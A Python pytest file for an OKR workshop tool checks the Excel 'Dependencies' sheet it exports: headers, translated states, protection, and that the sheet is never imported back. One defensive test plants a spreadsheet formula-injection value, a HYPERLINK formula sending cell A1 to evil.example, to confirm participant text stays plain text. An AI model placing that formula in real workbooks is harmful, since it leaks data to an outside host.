"""The workbook's dependencies sheet: written from the day's record, read back with openpyxl, never imported."""

from __future__ import annotations

import datetime as dt
import shutil

import openpyxl
import pytest

import okr_workshop as okr
from okr_workshop import samples
from okr_workshop.day import Day
from okr_workshop.day.sample import record_sample_day
from okr_workshop.workbook import import_workbook


@pytest.fixture(params=["exempel-ab", "acme"])
def recorded(request, tmp_path):
    name = request.param
    path = tmp_path / f"{name}.okr"
    okr.save(samples.load(name, fresh_ids=True), path)
    record_sample_day(path, name)
    return path


SHEET = {"sv": "Beroenden", "en": "Dependencies"}
HEADER = {
    "sv": ["Team som behöver", "Från team", "Vad", "Senast", "Läge", "Svar", "För målet", "Id"],
    "en": ["Team that needs", "From team", "What", "By date", "State", "Answer", "For objective", "Id"],
}
STATES = {"sv": {"accepted": "accepterat", "declined": "avböjt", "negotiating": "förhandlas", "open": "obesvarat"},
          "en": {"accepted": "accepted", "declined": "declined", "negotiating": "negotiating", "open": "unanswered"}}  # fmt: skip


def test_the_sheet_holds_every_dependency(recorded, tmp_path):
    ws = okr.load(recorded)
    lang = ws.lang
    path = okr.write_excel(ws, tmp_path / "okrs.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[-2:] == [SHEET[lang], "Listor" if lang == "sv" else "Lists"]
    sheet = wb[SHEET[lang]]
    rows = list(sheet.iter_rows(values_only=True))
    assert "import" in rows[0][0]  # the first row says the sheet is read-only
    assert list(rows[1]) == HEADER[lang]
    names = {t.id: t.name for t in ws.teams}
    titles = {o.id: o.title for o in ws.objectives}
    with Day.read(recorded) as day:
        want = [(names[d.from_team], names[d.to_team], d.what, dt.datetime.combine(d.due, dt.time()),
                 STATES[lang][d.answer.value], d.note or None, titles.get(d.objective_id or ""), d.id)
                for d in day.dependencies()]  # fmt: skip
    assert [tuple(r) for r in rows[2:]] == want
    assert any(r[6] for r in rows[2:])  # a dependency tied to an objective names it
    assert sheet.protection.sheet and not sheet.protection.autoFilter  # protected; filtering still allowed
    assert sheet.freeze_panes == "A3"


def test_participant_text_is_text_never_a_formula(tmp_path):
    path = tmp_path / "w.okr"
    ws = okr.Workshop.new("Formel AB", period="2027-Q1", lang="en")
    ws.add_team("A")
    ws.add_team("B")
    okr.save(ws, path)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Day.open(path) as day:
        d = day.need("A", "B", attack, due="2027-02-01")
        day.answer(d.id, "negotiating", "@SUM(1+1)")
    out = okr.write_excel(okr.load(path), tmp_path / "w.xlsx")
    sheet = openpyxl.load_workbook(out)["Dependencies"]
    what, answer = sheet["C3"], sheet["F3"]
    assert (what.value, what.data_type) == (attack, "s") and what.quotePrefix
    assert (answer.value, answer.data_type) == ("@SUM(1+1)", "s") and answer.quotePrefix


def test_no_sheet_without_recorded_dependencies(tmp_path):
    ws = samples.load("acme")
    assert "Dependencies" not in openpyxl.load_workbook(okr.write_excel(ws, tmp_path / "a.xlsx")).sheetnames
    path = tmp_path / "a.okr"
    okr.save(ws, path)
    with Day.open(path) as day:  # a day without dependencies
        day.set_agenda("team")
    assert "Dependencies" not in openpyxl.load_workbook(okr.write_excel(okr.load(path), tmp_path / "b.xlsx")).sheetnames


def test_no_sheet_when_the_file_is_another_workshop_now(recorded, tmp_path):
    ws = okr.load(recorded)
    other = tmp_path / "other.okr"
    okr.save(samples.load("acme", fresh_ids=True), other)
    shutil.copy(other, recorded)
    for suffix in ("-wal", "-shm"):
        (recorded.parent / (recorded.name + suffix)).unlink(missing_ok=True)
    sheets = openpyxl.load_workbook(okr.write_excel(ws, tmp_path / "c.xlsx")).sheetnames
    assert SHEET[ws.lang] not in sheets


def test_the_sheet_is_not_imported(recorded, tmp_path):
    ws = okr.load(recorded)
    path = okr.write_excel(ws, tmp_path / "okrs.xlsx")
    wb = openpyxl.load_workbook(path)
    sheet = wb[SHEET[ws.lang]]
    sheet["E3"] = STATES[ws.lang]["declined"]  # someone edits a state in the workbook anyway
    sheet["C3"] = "=1+1"
    wb.save(path)
    with Day.read(recorded) as day:
        before = day.dependencies()
    back = okr.read_excel(path)
    assert len(back.key_results) == len(ws.key_results)
    import_workbook(path, recorded)
    with Day.read(recorded) as day:
        assert day.dependencies() == before


def test_the_sheet_is_written_from_either_store(workshop_location, tmp_path):
    from okr_workshop.storage.transfer import copy

    path = tmp_path / "day.okr"
    okr.save(samples.load("exempel-ab", fresh_ids=True), path)
    record_sample_day(path, "exempel-ab")
    if isinstance(workshop_location, str):  # a PostgreSQL workshop holding the same day
        copy(path, workshop_location)
        path = workshop_location
    with Day.read(path) as day:
        expected = sorted(d.id for d in day.dependencies())
    xlsx = okr.write_excel(okr.load(path), tmp_path / "okrs.xlsx")
    rows = list(openpyxl.load_workbook(xlsx)["Beroenden"].iter_rows(min_row=3, values_only=True))
    assert expected and sorted(r[7] for r in rows) == expected
